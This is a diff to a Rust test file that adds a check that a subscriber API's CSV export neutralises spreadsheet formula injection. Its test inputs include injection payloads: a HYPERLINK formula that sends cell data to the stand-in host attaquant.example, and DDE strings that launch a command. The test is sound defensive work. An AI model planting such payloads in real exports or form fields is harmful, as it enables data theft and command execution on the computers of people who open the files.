@@ -10,7 +10,8 @@ use crate::on_both_backends;
 on_both_backends!(
     filters_select_the_right_subscriptions,
     the_export_takes_the_same_filters,
-    bad_subscriber_queries_are_400
+    bad_subscriber_queries_are_400,
+    exports_hold_no_formula,
 );
 
 /// Ids of what `seed` made.
@@ -197,6 +198,72 @@ async fn the_export_takes_the_same_filters(db: Db) {
     for query in ["?event=inconnue", "?evenement=atelier", "?scope=tout"] {
         let (status, _) = export(&app, query).await;
         assert_eq!(status, 400, "{query}");
+    }
+}
+
+/// How a spreadsheet (Excel, LibreOffice Calc, Google Sheets) reads a CSV cell: one that
+/// starts with `=`, `+`, `-` or `@` is a formula, and so is one that starts with a tab or a
+/// carriage return followed by one (they skip that leading blank); a leading apostrophe makes
+/// the cell text, and is not shown.
+fn spreadsheet_reads(cell: &str) -> Result<&str, &str> {
+    if let Some(text) = cell.strip_prefix('\'') {
+        return Ok(text);
+    }
+    let start = cell.trim_start_matches(['\t', '\r']);
+    if cell.starts_with(['\t', '\r']) || start.starts_with(['=', '+', '-', '@']) {
+        Err(cell)
+    } else {
+        Ok(cell)
+    }
+}
+
+/// Issue 20, item 6: addresses and consent notes that start like formulas come out of the
+/// subscribers' CSV as text a spreadsheet shows as typed, and runs nothing.
+async fn exports_hold_no_formula(db: Db) {
+    let app = spawn_app(db).await;
+    let typed = [
+        (
+            "=1+2@example.org",
+            "=HYPERLINK(\"http://attaquant.example/?\"&A1,\"clic\")",
+        ),
+        ("+33612345678@example.org", "+cmd|' /C calc'!A0"),
+        ("-2+3@example.org", "-1+1"),
+        ("a@example.org", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("b@example.org", "\t=1+1"),
+        ("c@example.org", "\r=1+1"),
+        ("d@example.org", "salon 2026, « stand 4 » ; fiche n° 12"),
+    ];
+    for (email, source) in typed {
+        let (status, body) = app
+            .post(
+                "/api/v1/subscribers",
+                &json!({"email": email, "scope": "all", "consent": {"source": source, "at": "2026-01-04T09:00:00Z"}}),
+            )
+            .await;
+        assert_eq!(status, 201, "{email}: {body}");
+    }
+    let (status, rows) = export(&app, "").await;
+    assert_eq!(status, 200);
+    let header = &rows[0];
+    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
+    let (email, source) = (column("email"), column("source"));
+    assert_eq!(rows.len(), typed.len() + 1, "{rows:?}");
+    for row in &rows[1..] {
+        for cell in row {
+            assert!(
+                spreadsheet_reads(cell).is_ok(),
+                "a formula cell: {cell:?} in {row:?}"
+            );
+        }
+        // What the spreadsheet shows is what was typed (the API trims a consent note).
+        let shown = (
+            spreadsheet_reads(&row[email]).unwrap(),
+            spreadsheet_reads(&row[source]).unwrap(),
+        );
+        assert!(
+            typed.iter().any(|&(e, s)| (e, s.trim()) == shown),
+            "{shown:?} was not typed"
+        );
     }
 }
 
